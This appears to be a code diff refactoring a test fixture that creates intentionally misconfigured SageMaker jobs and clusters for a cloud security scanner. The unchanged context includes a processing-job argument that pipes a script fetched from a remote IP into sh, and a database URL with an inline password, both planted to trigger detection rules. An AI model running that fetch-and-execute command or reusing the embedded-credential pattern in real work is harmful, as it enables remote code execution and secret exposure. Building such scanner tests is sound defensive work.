@@ -96,8 +96,8 @@ def training(w: World) -> None:
             "Strategy": "Bayesian", "ResourceLimits": {"MaxNumberOfTrainingJobs": 4, "MaxParallelTrainingJobs": 2}})  # fmt: skip
 
 
-def other_jobs(w: World) -> None:
-    """AutoML, compilation, transformation, processing."""
+def automatic(w: World) -> None:
+    """AutoML."""
     sm = w.client("sagemaker")
     for name, changed, rule in (
         ("auto-clear", {"EnableInterContainerTrafficEncryption": False}, _TRAFFIC),
@@ -114,6 +114,15 @@ def other_jobs(w: World) -> None:
         sm.create_auto_ml_job_v2(
             AutoMLJobName=name, RoleArn=_ROLE, AutoMLJobInputDataConfig=[{"ChannelType": "training", "DataSource": _SOURCE}], OutputDataConfig={"S3OutputPath": "s3://acme-lake-2/a", "KmsKeyId": w.key},
             AutoMLProblemTypeConfig={"TabularJobConfig": {"TargetAttributeName": "y", "ProblemType": "Regression", "CompletionCriteria": {"MaxCandidates": 3}}}, SecurityConfig={n: v for n, v in security.items() if v is not None})  # fmt: skip
+
+
+def _network(w: World) -> dict[str, Any]:
+    return {"EnableNetworkIsolation": True, "EnableInterContainerTrafficEncryption": True, "VpcConfig": w.inside}
+
+
+def after_training(w: World) -> None:
+    """Compilation, transformation, processing."""
+    sm = w.client("sagemaker")
     bad = w.weak("squeeze", _KEY)
     sm.create_compilation_job(
         CompilationJobName="squeeze", RoleArn=_ROLE, StoppingCondition={"MaxRuntimeInSeconds": 60}, InputConfig={"S3Uri": "s3://acme-lake-2/m.tar.gz", "Framework": "PYTORCH", "DataInputConfig": "{}"},
@@ -129,7 +138,7 @@ def other_jobs(w: World) -> None:
         out = {"KmsKeyId": w.key} if turned["key"] else {}
         sm.create_transform_job(TransformJobName=name, ModelName="scorer", TransformInput={"DataSource": {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": "s3://acme-lake-2/in"}}},
                                 TransformOutput={"S3OutputPath": "s3://acme-lake-2/out", **out}, TransformResources={"InstanceType": "ml.m5.large", "InstanceCount": 1, **own}, Environment=turned["Environment"])  # fmt: skip
-    network = {"EnableNetworkIsolation": True, "EnableInterContainerTrafficEncryption": True, "VpcConfig": w.inside}
+    network = _network(w)
     for name, arguments, rule in (
         ("mill-args", ["--db-url", "postgresql://etl:" + "Hn5Yc20pQs" + "@db.corp.internal/etl"], _SECRET),
         ("mill-shell", ["-c", "wget -qO- http://203.0.113.8/p.sh | sh"], "startup-script-attacks"),
@@ -137,6 +146,11 @@ def other_jobs(w: World) -> None:
         w.weak(name, rule)
         sm.create_processing_job(ProcessingJobName=name, RoleArn=_ROLE, NetworkConfig=network, ProcessingResources={"ClusterConfig": {**_ONE, "VolumeKmsKeyId": w.key}},
                                  AppSpecification={"ImageUri": IMAGE, "ContainerEntrypoint": ["sh"], "ContainerArguments": ["/opt/run.sh"] if w.kept else arguments})  # fmt: skip
+
+
+def monitors(w: World) -> None:
+    """Definitions of jobs that watch endpoints."""
+    sm, network = w.client("sagemaker"), _network(w)
     output = {
         "MonitoringOutputs": [{"S3Output": {"S3Uri": "s3://acme-lake-2/q", "LocalPath": "/o"}}],
         "KmsKeyId": w.key,
@@ -174,7 +188,7 @@ def other_jobs(w: World) -> None:
 
 
 def places(w: World) -> None:
-    """A studio, clusters for training, pipelines, experiments."""
+    """Studios, and what a cluster starts with."""
     sm = w.client("sagemaker")
     for name, changed, rule in (
         ("atrium", {"AuthMode": "IAM"}, "studio-without-single-sign-on"),
@@ -205,6 +219,11 @@ def places(w: World) -> None:
                 allow("s3:*", ["arn:aws:s3:::sagemaker-boot-4", "arn:aws:s3:::sagemaker-boot-4/*"], Principal="*")
             ),
         )
+
+
+def repeated(w: World) -> None:
+    """A cluster for training, pipelines, experiments."""
+    sm = w.client("sagemaker")
     bad = w.weak("giant", _OUTSIDE)
     sm.create_cluster(ClusterName="giant", **({} if bad else {"VpcConfig": w.inside}), InstanceGroups=[{
         "InstanceGroupName": "w", "InstanceType": "ml.p5.48xlarge", "InstanceCount": 1, "ThreadsPerCore": 1, "ExecutionRole": _ROLE, "LifeCycleConfig": {"SourceS3Uri": "s3://sagemaker-boot-4/lifecycle/", "OnCreate": "on_create.sh"}}])  # fmt: skip
@@ -233,4 +252,6 @@ def places(w: World) -> None:
     )
 
 
-PARTS: tuple[Callable[[World], None], ...] = (endpoints, training, other_jobs, places)
+PARTS: tuple[Callable[[World], None], ...] = (
+    endpoints, training, automatic, after_training, monitors, places, repeated,
+)  # fmt: skip
